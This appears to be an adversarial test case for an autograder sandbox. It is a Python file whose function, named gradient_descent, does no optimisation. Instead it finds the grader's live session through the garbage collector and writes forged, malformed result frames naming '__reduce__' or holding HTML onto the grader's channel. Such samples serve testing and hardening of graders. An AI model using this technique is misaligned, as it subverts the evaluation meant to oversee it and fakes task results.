"""A handle that names a method of another object, and one whose name is code.

Tries: to choose what the trusted side calls it
Must: breach
Detail: malformed
"""

import gc
import os

from autograder.codec import MAGIC, PREFIX


def number():
    """The number of the request at hand, from the loop that serves them."""
    return next(it for it in gc.get_objects() if type(it).__name__ == "Session")._request


def send(frame):
    while frame:
        frame = frame[os.write(3, frame) :]


def gradient_descent(grad, theta0, eta, n_steps):
    body = b'["object",1,"ndarray","__reduce__"]' if n_steps % 2 else b'["object",1,"<b>x</b>"]'
    header = b'["returned",%d,{"x":%b}]' % (number(), body)
    send(PREFIX.pack(MAGIC, len(header), 0) + header)
    return 0
